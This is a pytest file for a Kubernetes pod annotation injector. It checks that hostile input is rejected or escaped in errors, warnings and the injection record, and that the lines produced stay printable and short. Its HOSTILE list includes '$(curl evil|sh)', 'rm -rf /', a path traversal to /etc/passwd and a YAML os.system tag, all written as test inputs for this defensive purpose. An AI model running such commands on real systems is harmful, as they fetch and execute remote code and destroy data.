"""Hostile texts are harmless in errors, warnings and the injection record."""

import json
from typing import Any

import pytest
from asya_injector.annotations.settings import ClusterDefaults
from asya_injector.annotations.table import TABLE
from asya_injector.errors import InjectionError, join, quote
from asya_injector.mutation.inject import inject
from asya_injector.mutation.uninject import uninject
from asya_injector.mutation.workload import find_overridden, propagate
from hypothesis import given, settings
from hypothesis import strategies as st

Object = dict[str, Any]
DEFAULTS = ClusterDefaults("0123456789", {})

HOSTILE = [
    pytest.param("$(curl evil|sh)", id="shell"),
    pytest.param("`id`; rm -rf / #", id="shell-more"),
    pytest.param("../../etc/passwd", id="traversal"),
    pytest.param("/opt/../etc", id="traversal-inside"),
    pytest.param("a.b\0c", id="nul"),
    pytest.param("a.b\n{\"level\":\"info\"}", id="a-log-line"),
    pytest.param("a.b\r\x1b[2K\x1b[1A", id="terminal"),
    pytest.param("\x7f\x9b31m", id="delete-and-8-bit-escape"),
    pytest.param("а.b", id="cyrillic"),
    pytest.param("a․b", id="one-dot-leader"),
    pytest.param("\u202ea.b\u2066", id="bidi"),
    pytest.param("a\u200b.b", id="zero-width"),
    pytest.param("a\u2028.b\u0085", id="line-separators"),
    pytest.param("\ud800.b", id="lone-surrogate"),
    pytest.param("!!python/object/apply:os.system [id]", id="yaml-tag"),
    pytest.param("&a [*a, *a]", id="yaml-anchor"),
    pytest.param("%s%n{0.__class__}", id="formats"),
    pytest.param("x" * 262_144, id="256-KiB"),
    pytest.param("a." * 131_072, id="256-KiB-of-dots"),
    pytest.param("/a" * 131_072, id="256-KiB-of-slashes"),
    pytest.param("a," * 131_072, id="256-KiB-of-commas"),
    pytest.param("[" * 262_144, id="256-KiB-of-brackets"),
    pytest.param("9" * 262_144, id="256-KiB-of-digits"),
]  # fmt: skip


def line_of(given: Object) -> str:
    """The first error or warning about a pod, or an empty text; checks that all are harmless."""
    lines: list[str] = []
    for function in (lambda: inject(given, DEFAULTS), lambda: uninject(given)):
        try:
            result = function()
        except InjectionError as error:
            lines.append(str(error))
        else:
            lines += getattr(result, "warnings", ())
    for line in lines:
        assert line.isascii()
        assert line.isprintable()
        assert len(line) < 1500
    return lines[0] if lines else ""


def pod(annotations: Object, **container: Any) -> Object:
    item = {"name": "model", "command": ["serve"], **container}
    handler = {"asya.sh/handler": "a.b"}
    return {"metadata": {"annotations": handler | annotations}, "spec": {"containers": [item]}}


@pytest.mark.parametrize("entry", TABLE, ids=lambda entry: entry.name)
@pytest.mark.parametrize("text", HOSTILE)
def test_rejects_it_as_a_value(text: str, entry: Any) -> None:
    given = pod({entry.key: text})
    if entry.name in ("container", "sidecars") and text == "x":
        return
    line = line_of(given)
    assert line.startswith(f"{entry.key}: ")


@pytest.mark.parametrize("text", HOSTILE)
def test_rejects_it_as_a_key(text: str) -> None:
    assert line_of(pod({f"asya.sh/{text}": "1"})).endswith(" (AnnotationUnknown)")


@pytest.mark.parametrize("text", HOSTILE)
def test_rejects_it_as_an_annotation_of_the_injector(text: str) -> None:
    assert line_of(pod({"asya.sh/inherited": text})).startswith("asya.sh/inherited: ")
    assert line_of(pod({"asya.sh/injected": text})).startswith("asya.sh/injected: ")


@pytest.mark.parametrize("text", HOSTILE)
def test_quotes_it_as_a_name_in_the_pod(text: str) -> None:
    mount = {"name": text, "mountPath": "/opt/asya"}
    variable = {"name": "ASYA_HANDLER", "value": text}
    assert line_of(pod({"asya.sh/container": "other"}, name=text))
    assert line_of(pod({}, name=text, volumeMounts=[mount]))
    assert line_of(pod({}, name=text, env=[variable]))
    assert line_of(pod({}, name=text, readinessProbe={"tcpSocket": {"port": 1}}))
    assert line_of(pod({}, name=text, command=None, lifecycle={"preStop": {text: {}}}))
    assert line_of(pod({"kubectl.kubernetes.io/default-container": text}))
    line_of(pod({}, env=[{"name": text, "value": text}], command=[text, text]))


@pytest.mark.parametrize("text", HOSTILE)
def test_quotes_it_as_an_annotation_of_a_workload(text: str) -> None:
    template = pod({"asya.sh/mode": text, f"asya.sh/{text}": "1"})
    workload = {
        "metadata": {"annotations": {"asya.sh/mode": "x" + text, f"asya.sh/{text}": text}},
        "spec": {"template": template},
    }
    for line in find_overridden(workload):
        assert line.isascii()
        assert line.isprintable()
        assert len(line) < 1500
    assert line_of(propagate(workload)["spec"]["template"])


def test_an_error_stays_short_with_many_containers() -> None:
    given = pod({"asya.sh/container": "zzz"})
    given["spec"]["containers"] = [{"name": f"{i:03}-" + "c" * 59} for i in range(500)]
    line = line_of(given)
    assert "and 490 more" in line
    given["metadata"]["annotations"] |= {"asya.sh/container": "000-" + "c" * 59}
    given["metadata"]["annotations"] |= {"asya.sh/sidecars": "zzz"}
    assert "and 489 more" in line_of(given)


def test_quote_cuts_and_escapes() -> None:
    assert quote('a"\x1b\x7f\u202e') == '"a\\"\\u001b\\u007f\\u202e"'
    assert len(quote("\x1b" * 10_000)) < 650
    assert quote(1) == '"int"'
    assert join(["a", "b"]) == '"a", "b"'
    assert join([]) == ""


@settings(max_examples=60, deadline=None)
@given(st.text(), st.text(), st.sampled_from(TABLE))
def test_each_line_is_printable_with_any_texts(text: str, other: str, entry: Any) -> None:
    line_of(pod({entry.key: text, f"asya.sh/{other}": text}))
    line_of(pod({entry.key: text}, name=other, volumeMounts=[{"name": other, "mountPath": text}]))
    line_of(pod({"asya.sh/injected": text}, env=[{"name": "ASYA_HANDLER", "value": text}]))


def test_the_record_is_ascii_with_any_name() -> None:
    given = pod({}, env=[{"name": "ASYA_JSON", "value": "auto"}], name="\x1b\u202e")
    result = inject(given, DEFAULTS)
    assert result is not None
    record = result.pod["metadata"]["annotations"]["asya.sh/injected"]
    assert record.isascii()
    assert record.isprintable()
    assert json.loads(record)["container"] == "\x1b\u202e"
